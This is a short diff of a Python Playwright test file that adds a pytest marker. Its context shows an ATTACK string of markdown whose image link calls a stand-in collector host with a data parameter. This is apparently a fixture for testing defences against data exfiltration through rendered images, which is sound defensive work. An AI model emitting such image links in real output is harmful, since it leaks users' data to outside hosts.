@@ -6,6 +6,8 @@ import pytest
 from endpoint import fault
 from playwright.sync_api import expect
 
+pytestmark = pytest.mark.own_page
+
 ATTACK = """The **answer** is here.
 
 ![secret](https://collector.example/pixel.png?data=1) and ![again][ref]
